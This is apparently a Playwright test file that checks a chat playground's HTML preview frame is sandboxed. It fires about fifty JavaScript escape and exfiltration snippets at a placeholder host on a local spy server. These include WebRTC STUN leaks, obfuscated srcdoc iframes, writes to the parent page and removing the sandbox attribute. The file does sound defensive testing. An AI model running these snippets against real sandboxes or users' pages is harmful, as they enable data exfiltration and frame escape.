"""A page in code is shown in a frame that has no network and cannot reach the chat."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Dialog, Frame, Page, expect

from tests.playground.chromium import HANG_MS, skip_unless_chromium
from tests.playground.markdown.drawing import Drawing
from tests.playground.markdown.spy import Spy, running_spy
from tests.playground.pages import Pages

_RTC = (
    "let c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); "
    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))"
)
_RTC_PAGE = f"`<script>{_RTC}<` + `/script>`"
# Each would reach the host HOST, or change something outside of the frame, if it worked.
ATTACKS = {
    "fetch": "fetch('http://HOST/x', {mode: 'no-cors'}).catch(() => 0)",
    "request": "let r = new XMLHttpRequest(); r.open('GET', 'http://HOST/x'); r.send()",
    "beacon": "navigator.sendBeacon('http://HOST/x', 'a')",
    "picture": "new Image().src = 'http://HOST/x'",
    "event source": "new EventSource('http://HOST/x')",
    "web socket": "new WebSocket('ws://HOST/x')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`http://HOST/x`)'])))",
    "import": "import('http://HOST/x').catch(() => 0)",
    "script": "add('script', {src: 'http://HOST/x'})",
    "style": "add('link', {rel: 'stylesheet', href: 'http://HOST/x'})",
    "style's import": "add('style', {textContent: '@import \"http://HOST/x\"'})",
    "background": "document.body.style.background = 'url(http://HOST/x)'",
    "font": "new FontFace('f', 'url(http://HOST/x)').load().catch(() => 0)",
    "prefetch": "add('link', {rel: 'prefetch', href: 'http://HOST/x'})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: 'http://HOST/x'})",
    "module preload": "add('link', {rel: 'modulepreload', href: 'http://HOST/x'})",
    "manifest": "add('link', {rel: 'manifest', href: 'http://HOST/x'})",
    "icon": "add('link', {rel: 'icon', href: 'http://HOST/x'})",
    "speculation": """add('script', {type: 'speculationrules',
        textContent: '{"prefetch":[{"source":"list","urls":["http://HOST/x"]}]}'})""",
    "frame": "add('iframe', {src: 'http://HOST/x'})",
    "frame with text": "add('iframe', {['src' + 'doc']: '<img src=http://HOST/x>'})",
    "object": "add('object', {data: 'http://HOST/x'})",
    "embed": "add('embed', {src: 'http://HOST/x'})",
    "video": "add('video', {src: 'http://HOST/x'}); add('audio', {src: 'http://HOST/x'})",
    "form": "add('form', {action: 'http://HOST/x', method: 'post'}).submit()",
    "link": "add('a', {href: 'http://HOST/x'}).click()",
    "link's ping": "add('a', {href: '#x', ping: 'http://HOST/x'}).click()",
    "link of the top": "add('a', {href: 'http://HOST/x', target: '_top'}).click()",
    "link of a new tab": "add('a', {href: 'http://HOST/x', target: '_blank'}).click()",
    "window": "open('http://HOST/x')",
    "own address": "location = 'http://HOST/x'",
    "top's address": "top.location = 'http://HOST/x'",
    "parent's address": "parent.location.replace('http://HOST/x')",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0;url=http://HOST/x'})",
    "download": "add('a', {href: 'data:text/plain,x', download: 'x'}).click()",
    "alert": "alert(1); prompt(1); confirm(1); print()",
    "parent's document": "parent.document.title = 'attacked'",
    "parent's name": "top.attacked = 1",
    "storage": "localStorage.x = 1; document.cookie = 'x=1'",
    "frame's own attribute": "frameElement.removeAttribute('sandbox')",
    "policy": "add('meta', {httpEquiv: 'Content-Security-Policy', content: 'default-src *'}); "
    "fetch('http://HOST/x').catch(() => 0)",
    "written again": "document.open(); document.write('<img src=http://HOST/x><i id=end>'); "
    "document.close()",
    "service worker": "navigator.serviceWorker.register('http://HOST/x').catch(() => 0)",
    "preconnect": "add('link', {rel: 'preconnect', href: 'http://HOST/x'})",
    "rtc": _RTC,
    "rtc in a frame": f"add('iframe', {{['src' + 'doc']: {_RTC_PAGE}}})",
    "rtc in a frame by an attribute": "let f = document.createElement('iframe'); "
    f"f.setAttribute('src' + 'doc', {_RTC_PAGE}); document.body.append(f)",
    "rtc in a frame by a node": "let f = document.createElement('iframe'); "
    f"let a = document.createAttribute('src' + 'doc'); a.value = {_RTC_PAGE}; "
    "f.setAttributeNode(a); document.body.append(f)",
    "rtc in a frame by a moved node": "let f = document.createElement('iframe'); "
    "let a = document.createAttribute('src' + 'doc'); f.setAttributeNode(a); "
    f"a.value = {_RTC_PAGE}; document.body.append(f)",
    "rtc in a frame by HTML": "document.body.innerHTML += '<iframe src' + 'doc=\"' + "
    f"{_RTC_PAGE}.replaceAll('\"', '&quot;') + '\"></iframe>'",
    "rtc in a frame by pieces": "document.write('<iframe src'); document.write('doc=\"' + "
    f"{_RTC_PAGE}.replaceAll('\"', '&quot;') + '\"></iframe>')",
    "rtc in a parsed document": "let p = new DOMParser(); "
    "let d = p.parseFromString('<iframe src' + 'doc=\"' + "
    f"{_RTC_PAGE}.replaceAll('\"', '&quot;') + '\"></iframe>', 'text/html'); "
    "document.body.append(d.querySelector('iframe'))",
    "rtc in an empty frame": "let f = add('iframe', {}); let "
    "RTCPeerConnection = f.contentWindow.RTCPeerConnection; " + _RTC,
    "rtc by a script's address": f"add('iframe', {{src: `javascript:{_RTC}`}})",
    "rtc in data": f"add('iframe', {{src: 'data:text/html,' + {_RTC_PAGE}}}); "
    f"add('object', {{data: 'data:text/html,' + {_RTC_PAGE}}})",
    "rtc in a blob": "add('iframe', {src: URL.createObjectURL("
    f"new Blob([{_RTC_PAGE}], {{type: 'text/html'}}))}})",
    "rtc in a frame set": "let s = add('frameset', {}); let f = document.createElement('frame'); "
    f"f.src = 'data:text/html,' + {_RTC_PAGE}; s.append(f)",
}
_PAGE = """<body><script>
const add = (tag, properties) => document.body.appendChild(
    Object.assign(document.createElement(tag), properties));
try { ATTACK } catch (error) { window.failed = String(error) }
add('i', {id: 'end'});
</script></body>"""


@pytest.fixture(scope="module")
def spy() -> Iterator[Spy]:
    with running_spy() as spy:
        yield spy


class Victim:
    """A page with the playground's policy whose user shows previews."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.harm: list[str] = []
        page.set_default_timeout(HANG_MS)
        page.goto(url)
        page.context.on("page", lambda _: self.harm.append("window"))
        page.on("dialog", self._refuse)
        page.on("download", lambda _: self.harm.append("download"))
        self.drawing = Drawing(page)

    def _refuse(self, dialog: Dialog) -> None:
        self.harm.append("dialog")
        dialog.dismiss()

    def show(self, code: str, language: str = "html") -> Frame:
        self.drawing.draw(f"```{language}\n{code}\n```")
        self.page.get_by_role("button", name="Preview").click()
        handle = self.page.locator("iframe").element_handle()
        frame = handle.content_frame()
        assert frame is not None
        while frame.url in (
            "",
            "about:blank",
        ):  # it begins with an empty page, and may leave its own
            self.page.wait_for_timeout(20)
        return frame


@pytest.fixture(scope="module")
def victim(browser: Browser, pages: Pages) -> Iterator[Victim]:
    context = browser.new_context()
    yield Victim(context.new_page(), pages.url)
    context.close()


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_page_reaches_nothing(victim: Victim, spy: Spy, name: str) -> None:
    page = victim.page
    url = page.url
    spy.seen.clear()
    code = _PAGE.replace("ATTACK", ATTACKS[name]).replace("HOST", f"127.0.0.1:{spy.port}")
    frame = victim.show(code)
    if name not in ("own address", "link", "refresh"):  # these leave the frame with an error
        frame.wait_for_selector("#end", state="attached")
        frame.evaluate("new Promise(done => setTimeout(done, 50))")  # requests take a moment
    outside = "[window.attacked ?? null, document.cookie, document.title]"
    assert page.evaluate(outside) == [None, "", "Empty"]
    assert (page.url, victim.harm) == (url, [])
    assert spy.seen == []


def test_the_spy_sees_what_is_allowed(browser: Browser, spy: Spy) -> None:
    """The attacks work where nothing stops them, so the tests above can fail."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(HANG_MS)
    page.goto(f"http://127.0.0.1:{spy.port}/")
    for name in ("fetch", "picture", "rtc"):
        spy.seen.clear()
        attack = ATTACKS[name].replace("HOST", f"127.0.0.1:{spy.port}")
        page.evaluate(f"() => {{ {attack} }}")
        while not {"/x", "datagram"} & set(spy.seen):
            page.wait_for_timeout(20)
    context.close()


def test_a_page_runs_in_its_frame(victim: Victim) -> None:
    frame = victim.show(
        "<!doctype html><title>a</title><style>p { color: rgb(1, 2, 3) }</style><p id=a>before"
        "<script>document.querySelector('#a').textContent = self.origin</script>"
    )
    expect(frame.locator("#a")).to_have_text("null")
    assert frame.evaluate("getComputedStyle(document.querySelector('#a')).color") == "rgb(1, 2, 3)"
    frame = victim.show('<svg xmlns="http://www.w3.org/2000/svg"><circle r="9"/></svg>', "svg")
    frame.wait_for_selector("circle", state="attached")


def test_a_preview_can_be_closed(victim: Victim) -> None:
    victim.show("<p>a")
    control = victim.page.get_by_role("button", name="Preview")
    assert control.get_attribute("aria-pressed") == "true"
    control.click()
    expect(victim.page.locator("iframe")).to_have_count(0)
    assert control.get_attribute("aria-pressed") == "false"


def test_an_endless_loop_in_a_preview_does_not_stop_the_page(
    browser: Browser, pages: Pages
) -> None:
    """Chromium runs the preview in another process, which ends when the preview is closed."""
    context = browser.new_context()
    victim = Victim(context.new_page(), pages.url)
    page = victim.page
    skip_unless_chromium(page)
    page.evaluate("addEventListener('message', event => { window.last = event.data })")
    # The message leaves the frame's process only when the task that sent it has ended.
    loop = (
        "onmessage = () => { parent.postMessage('loop', '*'); setTimeout(() => { for (;;); }, 50) }"
    )
    frame = victim.show(f"<p id=a>a<script>{loop}</script>")
    expect(frame.locator("#a")).to_have_text("a")
    page.evaluate("document.querySelector('iframe').contentWindow.postMessage('go', '*')")
    while page.evaluate("window.last") != "loop":
        page.wait_for_timeout(20)
    page.wait_for_timeout(200)  # the loop begins meanwhile
    page.get_by_role("button", name="Preview").click()
    expect(page.locator("iframe")).to_have_count(0)
    context.close()


def test_other_code_has_no_preview(victim: Victim) -> None:
    victim.drawing.draw("```python\nx = 1\n```\n\n    <p>\n\n```\n<p>\n```")
    assert victim.page.get_by_role("button", name="Preview").count() == 0


def test_code_that_is_still_being_written_has_no_preview(victim: Victim) -> None:
    stages = victim.drawing.stages(["```html\n<p>", "a\n", "```\n"])
    assert [stage.count('aria-pressed="false" hidden=""') for stage in stages] == [1, 1, 0]
